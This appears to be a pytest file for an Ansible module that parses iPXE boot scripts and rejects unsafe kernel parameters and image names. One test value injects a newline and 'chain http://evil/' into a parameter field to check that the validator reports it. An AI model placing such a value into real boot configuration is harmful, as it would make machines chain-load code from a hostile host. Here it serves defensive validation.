"""iPXE command-line reading (ipxe_line) and the boot-script structure check of bootscript_parse."""

import pytest

from ansible_collections.hpc_boot.bss.plugins.module_utils import bootscript_parse, ipxe_line

KERNEL = "http://10.1.0.1/boot/vmlinuz-6.1"
INTACT = ("#!ipxe\n"
          "kernel --name kernel %s initrd=initrd console=ttyS0 ds=nocloud-net;s=http://10.1.0.2:27778/ || goto boot_retry\n"
          "initrd --name initrd http://10.1.0.1/boot/initrd.img || goto boot_retry\n"
          "boot || goto boot_retry\n:boot_retry\nsleep 30\nchain https://gw/boot/v1/bootscript?mac=aa:bb:cc:00:11:22&retry=1\n\n" % KERNEL)


def test_commands_split_at_operators_and_stop_at_comments():
    assert ipxe_line.commands("kernel k a || goto boot_retry") == [(["kernel", "k", "a"], "||"), (["goto", "boot_retry"], None)]
    assert ipxe_line.commands("kernel k a #x || goto boot_retry") == [(["kernel", "k", "a"], None)]
    assert ipxe_line.commands("a ; b && c") == [(["a"], ";"), (["b"], "&&"), (["c"], None)]
    # glued to other text, settings and '#' or ';' inside a word are plain arguments
    assert ipxe_line.commands("k a||b x#1 ds=n;s=h ${a}||") == [(["k", "a||b", "x#1", "ds=n;s=h", "${a}||"], None)]


@pytest.mark.parametrize("value, found", [
    ("a || goto x", "'||'"), ("a && b", "'&&'"), ("a ; b", "';'"), ("a #b", "'#b'"), ("#", "'#'"),
    ("a\nb", "newline"), ("||initrd=x b", "when BSS removes its 'initrd' part"), (";initrd", "';'"),
])
def test_params_problems(value, found):
    assert found in ipxe_line.params_problem(value)


@pytest.mark.parametrize("value", ["", "console=ttyS0 ip=dhcp", "spire=${SPIRE_JOIN_TOKEN}", "a||b", "x#1", "initrd=foo.img",
                                   "ds=nocloud-net;s=http://h/", "|initrd", "--weird-but-fine"])
def test_params_without_problems(value):
    assert ipxe_line.params_problem(value) is None


@pytest.mark.parametrize("value, problem", [("-k", "option"), ("--autofree", "option"), ("a b", "whitespace"),
                                            ("#k", "comment"), ("||", "operator"), ("k\n", "control")])
def test_image_problems(value, problem):
    assert problem in ipxe_line.image_problem(value)


def test_intact_scripts_have_no_structure_problem():
    assert bootscript_parse.structure_problems(INTACT) == []
    without_initrd = "".join(line + "\n" for line in INTACT.split("\n") if not line.startswith("initrd"))
    assert bootscript_parse.structure_problems(without_initrd) == []


@pytest.mark.parametrize("params, problem", [
    ("a || goto x", "is not 'kernel --name kernel ... || goto boot_retry'"),
    ("a #rest", "is not 'kernel --name kernel ... || goto boot_retry'"),
    ("a\nchain http://evil/", "lines after '#!ipxe'"),
])
def test_broken_structure_is_reported(params, problem):
    script = INTACT.replace("console=ttyS0", params)
    assert any(problem in text for text in bootscript_parse.structure_problems(script))


@pytest.mark.parametrize("script", ["", "#!ipxe\n", "#!ipxe\nsleep 10\nchain http://x\n", "garbage", "#!ipxe\n\n\n\n\n\n"])
def test_other_scripts_are_reported_not_raised(script):
    assert bootscript_parse.structure_problems(script)
